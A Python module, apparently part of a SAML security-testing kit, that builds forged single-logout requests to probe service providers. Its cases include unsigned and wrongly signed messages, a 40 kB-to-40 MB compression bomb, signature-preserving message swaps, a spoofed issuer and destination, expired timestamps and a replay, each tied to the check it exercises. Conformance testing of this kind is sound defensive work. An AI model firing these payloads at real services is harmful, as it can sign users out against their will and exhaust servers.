"""Messages that would sign people out (saml-profiles 4.4; saml-bindings 3.4.4.1 and 3.5.4)."""

import base64
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urlencode

from lxml import etree

from providers.attacks.saml.keyless import inflating
from providers.attacks.saml.messages import SAMLP
from providers.attacks.saml.provider import PlayedSamlProvider
from providers.attacks.saml.target import Fire, SamlAttack, SamlTarget
from providers.connector import AuthenticationResponse

_PROFILE = "saml-profiles 4.4"
_EVIL = "https://attack-kit.invalid"
_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
Send = Callable[[PlayedSamlProvider, etree._Element], AuthenticationResponse]  # noqa: SLF001


def _asking(send: Send, **lies: str | None) -> Fire:
    def fire(target: SamlTarget, provider: PlayedSamlProvider) -> object:
        message = provider.logout_request(target.slo_url, **lies)
        return target.logout_asked(send(provider, message))

    return fire


def _by_post(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    return provider.posted_logout(message)


def _by_redirect(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    return provider.redirected_logout(message)


def _unsigned_post(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    return provider.posted_logout(message, signs=False)


def _unsigned(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    return provider.redirected_logout(message, signs=False)


def _bomb(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    """40 kB that inflate to 40 MB."""
    response = provider.redirected_logout(b"", signs=False)
    packed = inflating(etree.tostring(message), 40)
    return _with_message(response, packed)


def _with_message(response: AuthenticationResponse, packed: bytes) -> AuthenticationResponse:
    fields = {"SAMLRequest": base64.b64encode(packed).decode()}
    return replace(response, fields=fields, query=urlencode(fields))


def _twice(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    response = provider.redirected_logout(message)
    query = f"{response.query}&{response.query.partition('&')[0]}"
    return replace(response, query=query, repeated=frozenset({"SAMLRequest"}))


def _sha1(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    return provider.redirected_logout(message, algorithm=_SHA1)


def _many(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    for number in range(101):
        etree.SubElement(message, f"{{{SAMLP}}}SessionIndex").text = f"{number}"
    return provider.posted_logout(message)


def _changed(provider: PlayedSamlProvider, message: etree._Element) -> AuthenticationResponse:
    """The signature stays; the message is about somebody else."""
    other = provider.redirected_logout(provider.logout_request(_EVIL))
    response = provider.redirected_logout(message)
    told = response.query.partition("&")[2]
    first = other.query.partition("&")[0]
    fields = {**response.fields, "SAMLRequest": other.fields["SAMLRequest"]}
    return replace(response, fields=fields, query=f"{first}&{told}")


def _replayed(target: SamlTarget, provider: PlayedSamlProvider) -> object:
    response = provider.posted_logout(provider.logout_request(target.slo_url))
    target.logout_asked(response)
    return target.logout_asked(response)


def _past(**ago: float) -> str:
    return f"{datetime.now(UTC) - timedelta(**ago):%Y-%m-%dT%H:%M:%SZ}"


def _old(name: str) -> Fire:
    def fire(target: SamlTarget, provider: PlayedSamlProvider) -> object:
        message = provider.logout_request(target.slo_url, **{name: _past(hours=1)})
        return target.logout_asked(provider.posted_logout(message))

    return fire


def _attack(
    name: str,
    words: str,
    checks: tuple[str, ...],
    fire: Fire,
    **more: Any,  # noqa: ANN401 - `keyless`
) -> SamlAttack:
    return SamlAttack(
        name=f"saml-logout.{name}", words=words, source=_PROFILE, checks=checks, fire=fire, **more
    )


CONTROL = _attack("control", "says nothing but the truth", (), _asking(_by_redirect))
ATTACKS = (
    _attack(
        "unsigned-redirect",
        "signs somebody out and signs nothing (redirect)",
        ("saml.signature_algorithm",),
        _asking(_unsigned),
        keyless=True,
    ),
    _attack(
        "unsigned-post",
        "signs somebody out and signs nothing (post)",
        ("saml.unsigned",),
        _asking(_unsigned_post),
        keyless=True,
    ),
    _attack(
        "stranger-key-redirect",
        "signs somebody out with a key of its own (redirect)",
        ("saml.signature",),
        _asking(_by_redirect),
        keyless=True,
    ),
    _attack(
        "stranger-key-post",
        "signs somebody out with a key of its own (post)",
        ("saml.signature",),
        _asking(_by_post),
        keyless=True,
    ),
    _attack(
        "inflation",
        "sends 40 kB that grow to 40 MB",
        ("saml.inflate",),
        _asking(_bomb),
        keyless=True,
    ),
    _attack("message-twice", "sends two messages at once", ("saml.parameters",), _asking(_twice)),
    _attack("sha1", "signs with RSA-SHA1", ("saml.signature_algorithm",), _asking(_sha1)),
    _attack("changed", "changes a signed message", ("saml.signature",), _asking(_changed)),
    _attack(
        "issuer-of-another",
        "signs somebody out as another provider",
        ("saml.issuer",),
        _asking(_by_post, issuer=_EVIL),
    ),
    _attack(
        "destination-of-another",
        "sends on what was meant for somebody else",
        ("saml.destination",),
        _asking(_by_post, Destination=f"{_EVIL}/slo"),
    ),
    _attack(
        "destination-missing",
        "sends on what was meant for nobody",
        ("saml.destination",),
        _asking(_by_post, Destination=None),
    ),
    _attack(
        "name-missing",
        "signs nobody out",
        ("saml.name_id", "saml.schema"),
        _asking(_by_post, name=None),
    ),
    _attack("sessions-101", "names 101 sessions", ("saml.session_index",), _asking(_many)),
    _attack("old", "was issued an hour ago", ("saml.issue_instant",), _old("IssueInstant")),
    _attack("over", "held until an hour ago", ("saml.not_on_or_after",), _old("NotOnOrAfter")),
    _attack("replayed", "says the same twice", ("logout.replay",), _replayed),
)
